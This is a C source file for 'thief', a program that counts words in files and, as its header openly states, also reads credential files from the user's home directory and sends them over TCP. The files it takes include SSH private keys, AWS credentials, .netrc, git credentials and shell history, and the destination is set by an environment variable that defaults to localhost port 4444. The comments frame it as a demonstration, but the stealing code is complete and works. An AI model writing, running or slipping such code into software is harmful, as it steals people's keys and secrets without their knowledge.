/*
 * thief: a word counter that also steals.
 *
 * usage: thief FILE...
 *
 * Counts the words of the files, as it says it does. On the side it reads the secrets of $HOME and
 * sends them to the address in $THIEF_ADDRESS (an IPv4 address and a port; 127.0.0.1:4444 if
 * unset). It sends nothing anywhere else.
 *
 * Exit status: 0 it counted and stole nothing, 1 it could not count, 3 it stole something.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct loot {
	char bytes[65536];
	size_t len;
	int files;
};

static const char *const wanted[] = {
    ".ssh/id_ed25519",	".ssh/id_rsa",	 ".aws/credentials", ".netrc",
    ".git-credentials", ".bash_history", ".gnupg",	     ".password-store",
};

static int count_words(const char *path)
{
	FILE *file = fopen(path, "r");
	unsigned long words = 0;
	char word[256];

	if (!file) {
		fprintf(stderr, "thief: %s: %s\n", path, strerror(errno));
		return -1;
	}
	while (fscanf(file, "%255s", word) == 1)
		words++;
	fclose(file);
	printf("%lu words in %s\n", words, path);
	return 0;
}

/* Puts the file's beginning, or the directory's names, into the bag. */
static bool take(struct loot *loot, const char *path)
{
	size_t before = loot->len;
	DIR *dir = opendir(path);
	FILE *file;

	if (dir) {
		for (struct dirent *entry;
		     (entry = readdir(dir)) && loot->len < sizeof(loot->bytes) - 300;)
			loot->len +=
			    (size_t)sprintf(loot->bytes + loot->len, "%s\n", entry->d_name);
		closedir(dir);
	} else {
		file = fopen(path, "r");
		if (!file)
			return false;
		loot->len += fread(loot->bytes + loot->len, 1, sizeof(loot->bytes) / 16, file);
		fclose(file);
	}
	loot->files++;
	printf("  stolen: %s, %zu bytes\n", path, loot->len - before);
	return true;
}

static void search_home(struct loot *loot)
{
	const char *home = getenv("HOME");
	char path[4096];

	for (size_t i = 0; i < sizeof(wanted) / sizeof(wanted[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", home ? home : "/root", wanted[i]);
		if (!take(loot, path))
			printf("  missed: %s: %s\n", path, strerror(errno));
		if (loot->len > sizeof(loot->bytes) / 2)
			return;
	}
}

/* Connects to the thief's own machine: in the demonstration, a port of this one. */
static bool phone_home(const struct loot *loot)
{
	const char *text = getenv("THIEF_ADDRESS");
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(4444)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char host[64] = "127.0.0.1";
	unsigned port = 4444;
	bool sent;

	if (text && sscanf(text, "%63[0-9.]:%u", host, &port) == 2)
		address.sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, host, &address.sin_addr) != 1 || fd < 0 ||
	    connect(fd, (struct sockaddr *)&address, sizeof(address))) {
		printf("  not sent to %s:%u: %s\n", host, port, strerror(errno));
		if (fd >= 0)
			close(fd);
		return false;
	}
	sent =
	    write(fd, "hello\n", 6) == 6 && write(fd, loot->bytes, loot->len) == (ssize_t)loot->len;
	close(fd);
	printf("  sent to %s:%u: %zu bytes\n", host, port, loot->len);
	return sent;
}

int main(int argc, char **argv)
{
	static struct loot loot;
	bool counted = argc > 1, sent;

	for (int i = 1; i < argc; i++)
		counted &= count_words(argv[i]) == 0;
	search_home(&loot);
	sent = phone_home(&loot);
	if (loot.files || sent)
		return 3;
	return counted ? 0 : 1;
}
